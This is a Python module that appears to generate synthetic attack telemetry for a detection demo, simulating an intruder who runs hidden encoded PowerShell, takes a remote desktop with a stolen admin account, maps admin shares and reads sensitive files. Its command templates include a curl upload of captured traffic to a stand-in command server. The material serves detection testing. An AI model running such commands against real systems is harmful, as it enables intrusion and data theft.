"""What the intruder does again and again: reading a share with a tool, running a hidden script, taking a desktop."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence

from tui.evidence.demo.estate import Device
from tui.evidence.demo.legs import CONTEXT
from tui.evidence.demo.recorder import Recorder
from tui.evidence.demo.rows import Process
from tui.evidence.demo.timing import MINUTE, SECOND

TOOLS = "C:\\ProgramData\\Helper\\"
"""Where the intruder keeps renamed tools, on every Windows machine."""

COMMAND_SERVER = "203.0.113.241"
COMMAND_NAME = "cdn.tidepool-updates.example"

SENSITIVE = (
    ("Payroll 2025.xlsx", "Confidential"),
    ("Salary review 2025.xlsx", "Confidential"),
    ("Passwords 2024.xlsx", ""),
    ("passwords.txt", ""),
    ("Confidential.docx", "Highly Confidential"),
    ("Charter contract 2026.docx", "Confidential"),
    ("finance-vault.kdbx", ""),
    ("id_rsa", ""),
)
"""File names that say what is in them, with their labels."""


class Intruder:
    """The intruder's hold on the company: the recorder and the processes that later scenes go on from."""

    def __init__(self, recorder: Recorder) -> None:
        self.recorder = recorder
        self.dice = recorder.dice("intrusion")
        self.footholds: dict[str, Process] = {}

    def device(self, short: str) -> Device:
        """The device of that name."""
        return self.recorder.estate.device(short)

    def shell(self, short: str) -> Process:
        """The process that the intruder works from on a device."""
        return self.footholds[short]

    def hidden_script(self, image: str, script: str, parent: Process, at: int) -> Process:
        """A PowerShell that gets `script` encoded, so that its command line says nothing."""
        code = base64.b64encode(script.encode("utf-16-le")).decode()
        process = self.recorder.start(image, f'"{{image}}" -NoProfile -w hidden -EncodedCommand {code}', parent, at)
        self.recorder.event(process, at + 2 * SECOND, "PowerShellCommand", additional=json.dumps({"Command": script}))
        return process

    def child(self, image: str, command: str, script: Process, at: int) -> Process:
        """A collecting tool that a script starts."""
        with self.recorder.planted("T1119-07", leg="children", note="a collecting tool started by a script"):
            return self.recorder.start(image, command, script, at)

    def take_desktop(self, parent: Process, target: str, at: int, minutes: int) -> Process:
        """A remote desktop on `target` with the stolen administrator's account; gives a command prompt on it."""
        recorder = self.recorder
        with recorder.planted("remote-desktop", leg="rdp", note=f"desktop on {target} from {parent.device.short}"):
            explorer = recorder.remote_desktop(parent, target, "adm.rlind", at, at + minutes * MINUTE)
            shell = recorder.start("cmd", '"{image}"', explorer, at + 40 * SECOND, integrity="High")
            recorder.start("conhost", "{image} 0xffffffff -ForceV1", shell, at + 40 * SECOND + 60_000)
        return shell

    def read_files(
        self, by: Process, names: Sequence[tuple[str, str]], server: str, share: str, target: str, at: int
    ) -> int:
        """`by` copies files (name with label) from a share into the folder `target`, some a minute; gives when it ended.

        Recorded: the files written, the connections of both ends, the logon, and what the server audits.
        """
        recorder, device = self.recorder, by.device
        account = by.account.name
        recorder.share_connection(device, server, at)
        session = recorder.logon(server, at + 200_000, account, "Network", source=device)
        recorder.audit_logon(server, at + 200_000, account, "Network", device, session)
        recorder.event(
            recorder.running(server, "kernel", at), at + 300_000, "NetworkShareObjectAccessChecked",
            account=by.account.index, remote_name=device.name, remote_ip=device.ip,
            additional=json.dumps({"ShareName": f"\\\\*\\{share}"}),
        )  # fmt: skip
        when = at + SECOND
        for number, (name, label) in enumerate(names):
            when += self.dice.number(1_200, 3_400) * 1_000
            recorder.read_share(
                server, when - 400_000, account=account, source=device, session=session, share=share,
                path=f"2025\\{name}",
            )  # fmt: skip
            recorder.write(by, target + name, self.dice.number(20_000, 6_000_000), when, label=label)
            if number % 20 == 19:
                recorder.share_connection(device, server, when)
        return when

    def sensitive_reads(self, by: Process, at: int, folder: str) -> None:
        """The sensor's own word that files of a sensitive kind were read."""
        for number, (name, label) in enumerate(SENSITIVE):
            self.recorder.event(
                by, at + number * 4 * SECOND, "SensitiveFileRead", path=folder + name,
                additional=json.dumps({"SensitivityLabel": label}),
            )  # fmt: skip

    def map_shares(self, parent: Process, servers: Sequence[str], at: int, port: int = 445) -> int:
        """`net use` and New-SmbMapping to each server, and three connections; gives when it ended."""
        recorder = self.recorder
        for number, server in enumerate(servers):
            when = at + number * 2 * MINUTE
            if number % 3 == 2:
                command = f'powershell.exe -Command "New-SmbMapping -RemotePath \\\\{server}\\C$ -UserName adm.rlind"'
                recorder.start("powershell", command, parent, when)
            else:
                recorder.start("net", f"net use \\\\{server}\\C$ /user:NORTHWHARF\\adm.rlind", parent, when)
            for attempt in range(3):
                recorder.share_connection(parent.device, server, when + SECOND + attempt * 11 * SECOND, port)
        return at + len(servers) * 2 * MINUTE

    def capture(self, parent: Process, image: str, command: str, path: str, at: int, *, size: int) -> None:
        """A traffic capture into `path`, the capture driver's load with it, and its way out."""
        recorder = self.recorder
        # A renamed tcpdump has no version information to know it by: it is found as the writer of a capture.
        tool_leg, way_out = ("writers", "transfers") if parent.device.is_linux else ("processes", "connections")
        note = "traffic capture"
        with recorder.planted("T1119-04", leg=tool_leg, note=note):
            tool = recorder.start(image, command, parent, at)
        if "dumpcap" in image:
            recorder.event(tool, at + SECOND, "DriverLoad", path="C:\\Windows\\System32\\drivers\\npcap.sys")
        recorder.write(tool, path, size, at + 4 * SECOND, "FileModified" if parent.device.is_linux else "FileCreated")
        sender = "curl_linux" if parent.device.is_linux else "curl"
        with recorder.planted("T1119-04", leg=CONTEXT, note=note):
            curl = recorder.start(sender, f"curl -T {path} https://{COMMAND_NAME}/c", parent, at + 2 * MINUTE)
        with recorder.planted("T1119-04", leg=way_out, note=note):
            for number in range(3):
                recorder.connect(curl, at + 2 * MINUTE + (1 + 8 * number) * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)

    def upload(self, by: Process, at: int, address: str, url: str, count: int, port: int = 443) -> None:
        """`count` connections of an upload, seconds apart."""
        for number in range(count):
            self.recorder.connect(by, at + number * self.dice.number(4, 15) * SECOND, address, port, url)


def documents(stem: str, count: int) -> list[tuple[str, str]]:
    """`count` unremarkable files of a share, without labels."""
    endings = ("xlsx", "pdf", "docx", "pptx", "csv")
    return [(f"{stem} {number:03}.{endings[number % len(endings)]}", "") for number in range(1, count + 1)]
